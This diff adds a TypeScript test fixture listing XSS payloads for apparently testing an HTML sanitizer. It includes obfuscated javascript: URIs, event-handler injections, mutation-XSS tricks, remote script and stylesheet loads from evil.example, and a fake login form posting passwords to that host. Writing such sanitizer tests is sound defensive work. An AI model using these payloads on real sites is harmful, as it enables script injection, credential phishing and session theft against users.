@@ -1,0 +1,140 @@
+/** Sets this when a script of a hostile text runs: tests look whether it is there. */
+const act = 'window.hostile=1';
+
+const uri_schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  'java\u0000script:',
+  ' \u0001javascript:',
+  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:',
+  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:',
+  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:',
+  'jav&#x09;ascript:',
+  'jav&#x0A;ascript:',
+  'jav&#x0D;ascript:',
+  'javascript&colon;',
+  'vbscript:',
+  'livescript:',
+  'feed:javascript:',
+  'view-source:javascript:',
+  'data:text/html,',
+];
+
+const uri_places = [
+  (uri: string) => `<a href="${uri}">a</a>`,
+  (uri: string) => `<img src="${uri}">`,
+  (uri: string) => `<iframe src="${uri}"></iframe>`,
+];
+
+const handlers = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus autofocus',
+  'ontoggle open',
+  'onanimationstart',
+  'onpointerenter',
+  'onbeforetoggle popover',
+  'onwheel',
+];
+
+const handled = handlers.flatMap((name) => {
+  const [handler = '', more = ''] = name.split(' ');
+  return [
+    `<img src=x ${handler}="${act}" ${more}>`,
+    `<details ${handler}=${act} ${more}><summary>a</summary></details>`,
+    `<p ${handler}='${act}' ${more}>a</p>`,
+  ];
+});
+
+const elements = [
+  `<script>${act}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${act}</scr</script>ipt>`,
+  `<<script>${act};//<</script>`,
+  `<script/xss src="//evil.example/x.js"></script>`,
+  `<script\n>${act}</script\t>`,
+  `<ScRiPt >${act}</sCrIpT>`,
+  `"><script>${act}</script>`,
+  `</title><script>${act}</script>`,
+  `<svg onload=${act}>`,
+  `<svg><script>${act}</script></svg>`,
+  `<svg/onload=${act}//`,
+  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${act}"><text y=20>a</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${act}>#x"/></svg>`,
+  `<math href="javascript:${act}">a</math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style>`,
+  `<style>*{background:url(javascript:${act})}</style>`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<link rel=stylesheet href="//evil.example/x.css">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
+  `<meta http-equiv="Set-Cookie" content="ck_session=x">`,
+  `<base href="//evil.example/">`,
+  `<object data="javascript:${act}"></object>`,
+  `<embed src="javascript:${act}">`,
+  `<applet code="x.class"></applet>`,
+  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
+  `<frameset><frame src="javascript:${act}"></frameset>`,
+  `<form action="//evil.example/"><input name=password><button>Log in</button></form>`,
+  `<button formaction="javascript:${act}">a</button>`,
+  `<input type=image src=x onerror=${act}>`,
+  `<isindex action="javascript:${act}" type=image>`,
+  `<body onload=${act}>`,
+  `<body background="javascript:${act}">`,
+  `<bgsound src="javascript:${act}">`,
+  `<marquee onstart=${act}>a</marquee>`,
+  `<video><source onerror="${act}"></video>`,
+  `<audio src=x onerror=${act}>`,
+  `<video poster="javascript:${act}"></video>`,
+  `<table background="javascript:${act}"><tr><td background="javascript:${act}">a</td></tr></table>`,
+  `<div style="background-image:url(javascript:${act})">a</div>`,
+  `<div style="position:fixed;inset:0;z-index:9999">covers the page</div>`,
+  `<p style="width:expression(${act})">a</p>`,
+  `<xss style="behavior:url(x.htc)">a</xss>`,
+  `<img src=x:x onerror="\u2028${act}">`,
+  `<img """><script>${act}</script>">`,
+  `<img src="x\` onerror=${act}\``,
+  `<img/src/onerror=${act}>`,
+  `<img src=1 onerror=${act} `,
+  `<a href="https://evil.example" target=_top onclick=${act}>a</a>`,
+  `<a href="//evil.example">a</a>`,
+  `<a href="/\\evil.example">a</a>`,
+  `<a href="https:evil.example">a</a>`,
+  `<a href="http://evil.example">a</a>`,
+  `<a href="/m/logout" ping="https://evil.example">a</a>`,
+  `<img srcset="//evil.example/x.png 2x" src=x>`,
+  `<img src="//evil.example/x.png">`,
+  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
+  `<textarea><img title="</textarea><img src=x onerror=${act}>"></textarea>`,
+  `<xmp><img alt="</xmp><img src=x onerror=${act}>"></xmp>`,
+  `<template><img src=x onerror=${act}></template>`,
+  `<!--><img src=x onerror=${act}>-->`,
+  `<![CDATA[<img src=x onerror=${act}>]]>`,
+  `<!DOCTYPE x [<!ENTITY a "b">]><p>&a;</p>`,
+  `<?xml-stylesheet href="javascript:${act}"?>`,
+  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
+  `<p id=open class=toast name=csrf>a</p>`,
+  `<label for=password>a</label>`,
+  `<dialog open>a</dialog>`,
+  `<p popover contenteditable accesskey=x tabindex=1>a</p>`,
+  `</li></ul></main></div></body><script>${act}</script>`,
+  `</div></details></li><li><details open><summary>false news</summary>`,
+  `<plaintext>`,
+  `<select><option><script>${act}</script></select>`,
+  `<li>`.repeat(600),
+  `<blockquote>`.repeat(600),
+];
+
+/**
+ * Texts of an operator, or of who got hold of his account, that try to run, load or cover something: after the
+ * published lists of such tricks, in our own words. Nothing of them may come alive.
+ */
+export const hostileHtml: readonly string[] = [
+  ...elements,
+  ...handled,
+  ...uri_schemes.flatMap((scheme) => uri_places.map((place) => place(`${scheme}${act}`))),
+];
